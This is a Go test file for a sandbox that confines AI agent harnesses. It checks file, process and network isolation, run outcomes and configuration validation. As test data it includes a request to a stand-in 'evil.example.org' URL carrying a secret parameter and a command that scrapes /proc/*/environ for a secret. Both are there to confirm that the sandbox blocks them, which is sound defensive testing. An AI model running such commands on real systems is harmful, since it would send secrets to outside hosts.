package worker_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"millwright/runs/worker"
	"millwright/runs/worker/sandbox"
	"millwright/state"
)

// enterSandbox is the command by which the test program runs itself inside of a sandbox.
const enterSandbox = "enter-sandbox"

// inSandbox is the main function of the test program inside of a sandbox: the worker's part, or a client that
// fetches a URL through the proxy of the environment.
func inSandbox(arg string) int {
	if arg == enterSandbox {
		return sandbox.Enter()
	}

	r, err := http.Get(arg)
	if err != nil {
		fmt.Println(err)
		return 0
	}
	defer r.Body.Close()

	fmt.Println(r.Status)
	return 0
}

// wantSandbox skips a test where there are no sandboxes, or fails it where CI=true.
func wantSandbox(t *testing.T) {
	t.Helper()
	if _, err := sandbox.Open(); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal(err)
		}
		t.Skip(err)
	}
}

// boxed returns a harness in a sandbox, under an account where root starts it.
func boxed(script string) worker.Harness {
	h := worker.Harness{Command: []string{"sh", "-c", script}, Sandbox: &worker.Sandbox{}}
	if os.Getuid() == 0 {
		h.UIDRange = "731050-731051"
	}
	return h
}

func TestSandbox(t *testing.T) {
	wantSandbox(t)
	t.Run("files", func(t *testing.T) {
		testTmp(t, boxed)
		testHome(t, boxed)
		got := said(t, boxed("cat prompt.md; echo; touch mine && echo wrote; pwd; ls "+t.TempDir()+" /root 2>&1 | grep -c 'No such'"))
		if got != "do it\nwrote\n"+sandbox.Dir+"/work\n2" {
			t.Errorf("said %q", got)
		}
	})
	t.Run("processes", func(t *testing.T) {
		got := said(t, boxed(fmt.Sprintf("ls -d /proc/%d 2>&1; id -un; [ $(ls /proc | grep -c '^[0-9]') -lt 10 ] && echo few", os.Getpid())))
		if !strings.HasSuffix(got, "No such file or directory\nagent\nfew") {
			t.Errorf("said %q", got)
		}
		testEnds(t)
	})
	t.Run("network", func(t *testing.T) {
		if got := said(t, boxed("cat /proc/net/dev | tail -n +3 | cut -d: -f1; echo $HTTPS_PROXY")); strings.TrimSpace(got) != "lo" {
			t.Errorf("said %q", got)
		}
		testHostNetwork(t, func(script string) worker.Harness {
			h := boxed(script)
			h.Sandbox.Network.Mode = "open"
			return h
		})
		testRefusedHosts(t)
	})
	t.Run("other runs", func(t *testing.T) {
		b := newBench(t, 0)
		passThrough(t, b.dir+"/x")
		h := boxed("ls; ls " + b.dir + " .. 2>&1; pwd >mine; (setsid sleep 600 &) ; echo end")
		h.Sandbox.ReadOnly = []string{filepath.Dir(b.dir)}
		b.work(worker.Config{Harnesses: map[string]worker.Harness{"h": h}, Default: "h"})
		for range 2 {
			r := b.end(b.create(nil))
			want := "prompt.md\n..:\nhome\nwork\n\n" + b.dir + ":\nend"
			if got := b.said(r); !strings.HasSuffix(got, want) || strings.Contains(got, "mine") {
				t.Errorf("%s %s: said %q, want %q", r.State, r.StatusMessage, got, want)
			}
		}
	})
	t.Run("secrets", func(t *testing.T) {
		t.Setenv(serverSecret, serverSecretValue)
		got := said(t, boxed("env | grep "+serverSecret+"; cat /proc/*/environ | tr '\\0' '\\n' | grep "+serverSecret+"; echo end"))
		if got != "end" {
			t.Errorf("said %q", got)
		}
	})
}

// testEnds has harnesses in sandboxes end in each way that runs end.
func testEnds(t *testing.T) {
	t.Helper()
	b := newBench(t, 0)
	passThrough(t, b.dir+"/x")
	small := boxed("head -c 200000000 /dev/zero | tail -c 150000000 | wc -c; sleep 30")
	small.Sandbox.Memory = "64m"
	b.work(worker.Config{Harnesses: map[string]worker.Harness{
		"status":  boxed("echo wrong >&2; exit 3"),
		"signal":  boxed("kill -9 $$"),
		"blocked": boxed("exit 10"),
		"memory":  small,
		"missing": {Command: []string{"no-such-program"}, Sandbox: &worker.Sandbox{}, UIDRange: boxed("").UIDRange},
		"polite":  boxed("trap 'echo ended; exit 0' TERM; echo up; while :; do sleep 0.05; done"),
		"hidden":  {Command: []string{outside(t)}, Sandbox: &worker.Sandbox{}, UIDRange: boxed("").UIDRange},
	}})
	for name, want := range map[string]string{
		"status":  "FAILED the harness ended with exit status 3: wrong",
		"signal":  "FAILED the harness was ended by signal 9 (killed)",
		"blocked": "BLOCKED ",
		"memory":  "FAILED the run used more memory than its sandbox has",
		"missing": "ERROR the harness cannot be started: no-such-program: its PATH, ",
		"hidden":  "ERROR the harness cannot be started: " + outside(t) + ": the sandbox does not show ",
	} {
		r := b.end(b.create(func(n *state.NewRun) { n.Config = fmt.Appendf(nil, `{"harness":{"type":%q}}`, name) }))
		if got := string(r.State) + " " + r.StatusMessage; !strings.HasPrefix(got, want) {
			t.Errorf("%s: %s, want %s", name, got, want)
		}
	}

	id := b.create(func(n *state.NewRun) { n.Config = []byte(`{"harness":{"type":"polite"}}`) })
	b.until(id, func(r state.Run) bool { return strings.Contains(b.said(r), "up") })
	if _, err := b.store.RequestCancel(t.Context(), id, "tester"); err != nil {
		t.Fatal(err)
	}
	if r := b.end(id); r.State != state.RunCancelled || !strings.Contains(b.said(r), "ended") {
		t.Errorf("%s %s: said %q", r.State, r.StatusMessage, b.said(r))
	}
}

// outside returns a program that a sandbox does not show.
func outside(t *testing.T) string {
	t.Helper()
	program := filepath.Join(os.TempDir(), "program")
	if err := os.WriteFile(program, []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	return program
}

// testRefusedHosts has an agent ask for hosts that it may not reach: the conversation names them.
func testRefusedHosts(t *testing.T) {
	t.Helper()
	b := newBench(t, 0)
	passThrough(t, b.dir+"/x")
	h := boxed("for url in https://evil.example.org/?secret=1 http://api.example.com/ https://evil.example.org/ https://10.0.0.1/; do /run/millwright/millwright $url; done")
	h.Sandbox.Network.Allow = []string{"api.example.com"}
	b.work(worker.Config{Harnesses: map[string]worker.Harness{"h": h}, Default: "h"})
	r := b.end(b.create(nil))
	if said := b.said(r); strings.Count(said, "Forbidden") != 4 {
		t.Errorf("%s %s: said %q", r.State, r.StatusMessage, said)
	}

	text, err := json.Marshal(b.blocks(r))
	if err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(string(text), `"network_refused"`); n != 3 || strings.Contains(string(text), `secret=1`+`"`) {
		t.Errorf("%d refusals in %s", n, text)
	}
	wantIn(t, string(text), `"host":"evil.example.org"`, `plain HTTP does not leave the sandbox`, `an IP address in place of a name`)
}

// TestSandboxSettings refuses sandboxes that promise what they do not hold.
func TestSandboxSettings(t *testing.T) {
	wantSandbox(t)
	for want, change := range map[string]func(*worker.Harness){
		"sandbox: give it alone, or with user, users or uidRange; not with container or sameUser": func(h *worker.Harness) { h.SameUser = true },
		"sandbox: preset opencode reaches a model of your choice: give network":                   func(h *worker.Harness) { h.Command, h.Preset = nil, "opencode" },
		`sandbox.network.allow[0]: "10.0.0.1" is an IP address`:                                   func(h *worker.Harness) { h.Sandbox.Network.Allow = []string{"10.0.0.1"} },
		`sandbox.network.allow[1]: "a.example.com" is there twice`:                                func(h *worker.Harness) { h.Sandbox.Network.Allow = []string{"a.example.com", "a.example.com"} },
		`sandbox.network.allow: it names no host`:                                                 func(h *worker.Harness) { h.Sandbox.Network.Allow = []string{} },
		`sandbox.memory: "2": want a size like 512m or 2g`:                                        func(h *worker.Harness) { h.Sandbox.Memory = "2" },
		`sandbox.processes: 3: want 16 to 100000`:                                                 func(h *worker.Harness) { h.Sandbox.Processes = 3 },
		`sandbox.readOnly[0]: "agents" is not an absolute directory`:                              func(h *worker.Harness) { h.Sandbox.ReadOnly = []string{"agents"} },
		`sandbox.readOnly[0]: "/" cannot be shown in a sandbox`:                                   func(h *worker.Harness) { h.Sandbox.ReadOnly = []string{"/"} },
		`sandbox.readOnly[0]: "/run/docker.sock" cannot be shown in a sandbox`:                    func(h *worker.Harness) { h.Sandbox.ReadOnly = []string{"/run/docker.sock"} },
		"": func(h *worker.Harness) { h.Command, h.Preset = nil, "claude" },
	} {
		h := worker.Harness{Command: []string{"x"}, Sandbox: &worker.Sandbox{}}
		if os.Getuid() == 0 {
			h.UIDRange = "731050-731051"
		}
		if change(&h); h.SameUser {
			h.UIDRange = ""
		}
		err := worker.Update{Harnesses: map[string]worker.Harness{"h": h}}.Check()
		if (err == nil) != (want == "") || err != nil && !strings.HasPrefix(err.Error(), `harness "h": `+want) {
			t.Errorf("%v, want %s", err, want)
		}
	}

	if os.Getuid() == 0 {
		h := worker.Harness{Command: []string{"x"}, Sandbox: &worker.Sandbox{}}
		err := worker.Update{Harnesses: map[string]worker.Harness{"h": h}}.Check()
		if err == nil || !strings.Contains(err.Error(), "add uidRange, such as uidRange: 70000-70063") {
			t.Errorf("%v", err)
		}
	}
}
